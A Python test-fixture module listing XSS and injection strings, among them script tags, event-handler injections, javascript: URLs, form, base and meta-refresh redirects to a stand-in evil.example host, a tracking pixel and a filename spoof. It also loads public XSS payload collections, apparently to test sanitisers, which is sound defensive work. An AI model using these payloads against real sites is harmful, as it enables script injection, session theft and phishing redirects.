"""Hostile strings: a few of our own, and public collections if they are next to this checkout."""

import json
from pathlib import Path

COLLECTIONS = Path(__file__).parents[3] / "shared" / "data" / "payloads"

OWN = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "</textarea><svg onload=alert(1)>",
    "</title><svg/onload=alert(1)>",
    "</pre></details><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<form action=//evil.example><button>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "jAvAsCrIpT:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example",
    "\\\\evil.example",
    "https://evil.example\\@good.example",
    'https://good.example/" onclick="alert(1)',
    "https://good.example/'><script>alert(1)</script>",
    "https://good.example/ javascript:alert(1)",
    "[x](javascript:alert(1))",
    '[x](https://good.example "onclick=alert(1)")',
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "{{ 7 * 7 }}{% raw %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;",
    "\u202egnp.exe",
    "a\u0300\u0301\u0302\u0303b",
    "\u2028\u2029\ufeff\u0085",
    "😀" * 20,
)


def payloads(every: int = 1) -> tuple[str, ...]:
    """Return our own strings and each `every`-th string of the collections."""
    return (*OWN, *_collected()[::every])


def _collected() -> list[str]:
    if not COLLECTIONS.is_dir():
        return []
    lists = [
        json.loads((COLLECTIONS / "blns" / "blns.json").read_text()),
        json.loads((COLLECTIONS / "owasp" / "xss_filter_evasion_payloads.json").read_text()),
        (COLLECTIONS / "payloadbox-xss" / "xss-payload-list.txt").read_text(errors="replace").splitlines(),
    ]
    found = dict.fromkeys(text for texts in lists for text in texts if text.strip())
    return [text for text in found if text.isascii() or text.encode("utf-8", "ignore").decode() == text]
